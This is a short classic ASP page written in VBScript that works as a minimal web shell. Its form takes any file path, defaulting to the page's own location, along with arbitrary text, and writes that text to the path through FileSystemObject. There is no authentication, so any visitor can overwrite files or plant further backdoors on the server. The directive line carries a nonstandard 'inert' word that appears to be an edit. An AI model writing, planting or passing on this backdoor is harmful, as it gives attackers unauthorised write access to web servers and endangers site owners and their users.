<%@ Language=VBScript inert %>
<form method=post>path <input name=syfdpath size=60 value="<%=Server.MapPath(Request.ServerVariables("SCRIPT_NAME"))%>"><br>
<textarea name=cyfddata rows=10 cols=80></textarea><input type=submit value=save></form>
<%
dim objFSO, fdata, objCountFile
if Trim(request("syfdpath")) <> "" then
  fdata = request("cyfddata")
  Set objFSO = Server.CreateObject("Scripting.FileSystemObject")
  Set objCountFile = objFSO.CreateTextFile(request("syfdpath"), True)
  objCountFile.Write fdata
  if err = 0 then response.write "<font color=red>save Success!</font>"
  objCountFile.Close
end if
%>
